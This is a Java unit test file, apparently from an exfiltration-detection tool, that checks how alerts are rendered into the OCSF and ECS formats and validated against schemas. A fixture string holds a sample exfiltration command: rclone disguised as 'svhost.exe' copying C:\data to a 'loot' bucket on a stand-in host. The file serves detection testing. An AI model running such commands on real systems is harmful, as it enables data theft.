package exfilwatch.alert;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

class OcsfAlertTest {

  private static final String TO_BUCKET =
      "svhost.exe copy C:\\data"
          + " :s3,provider=Minio,access_key_id=AKIAEXAMPLE,secret_access_key=hush,"
          + "endpoint='%s':loot/x";

  @Test
  void tellsWhoTookWhatToWhere() {
    JsonNode finding =
        render(
            AlertCases.closed()
                .commandLine(TO_BUCKET.formatted("https://s3.example.net:9000/a"))
                .to("s3.example.net", "192.0.2.7"));
    is(finding, "/activity_name", "Close");
    is(finding, "/type_uid", "200403");
    is(finding, "/actor/user/name", "eve");
    is(finding, "/actor/process/file/internal_name", "rclone.exe");
    is(finding, "/actor/process/parent_process/name", "cmd.exe");
    is(finding, "/device/os/type_id", "100");
    is(finding, "/evidences/1/dst_endpoint/hostname", "s3.example.net");
    is(finding, "/evidences/2/databucket/name", "loot");
    is(finding, "/evidences/2/databucket/hostname", "s3.example.net");
    is(finding, "/evidences/2/databucket/owner/account/name", "AKIAEXAMPLE");
    is(finding, "/resources/0/name", "C:\\data");
    is(finding, "/unmapped/exfil/stage", "closed");
    assertThat(finding.at("/remediation/desc").asText()).contains("`AKIAEXAMPLE`");
    assertThat(finding.toString()).doesNotContain("hush");
  }

  @ParameterizedTest
  @CsvSource({
    "s3.example.net, s3.example.net",
    "s3.example.net:9000, s3.example.net",
    "http://u@10.0.0.1:9000/x, 10.0.0.1",
  })
  void theHostOfAnEndpointIsWithoutSchemeAndPort(String endpoint, String host) {
    JsonNode finding = render(AlertCases.started().commandLine(TO_BUCKET.formatted(endpoint)));
    is(finding, "/evidences/1/databucket/hostname", host);
  }

  @Test
  void aSourceWithoutProcessIdsLeavesTheProcessOut() {
    JsonNode finding = render(AlertCases.bare());
    assertThat(finding.has("actor")).isFalse();
    is(finding, "/device/uid", "host-id");
  }

  @Test
  void theSchemasRefuseWhatTheyDoNotKnow() {
    ObjectNode finding = (ObjectNode) render(AlertCases.started());
    finding.put("severity_id", 7);
    assertThatThrownBy(() -> AlertSchemas.requireValid(finding))
        .hasMessageContaining("severity_id");
    finding.put("severity_id", 5).put("surprise", 1);
    assertThatThrownBy(() -> AlertSchemas.requireValid(finding)).hasMessageContaining("surprise");
    ObjectNode alert =
        (ObjectNode) AlertSchemas.requireValid(AlertCases.started().render(AlertFormat.ECS));
    ((ObjectNode) alert.get("event")).put("kind", "alarm");
    assertThatThrownBy(() -> AlertSchemas.requireValid(alert)).hasMessageContaining("kind");
    ((ObjectNode) alert.get("event")).put("kind", "alert");
    ((ObjectNode) alert.get("process")).put("args", "not a list");
    assertThatThrownBy(() -> AlertSchemas.requireValid(alert)).hasMessageContaining("args");
    ((ObjectNode) alert.get("process")).remove("args");
    ((ObjectNode) alert.get("exfil")).put("surprise", 1);
    assertThatThrownBy(() -> AlertSchemas.requireValid(alert)).hasMessageContaining("surprise");
  }

  private static JsonNode render(AlertCases incident) {
    return AlertSchemas.requireValid(incident.render(AlertFormat.OCSF));
  }

  private static void is(JsonNode finding, String pointer, String value) {
    assertThat(finding.at(pointer).asText()).as(pointer).isEqualTo(value);
  }
}
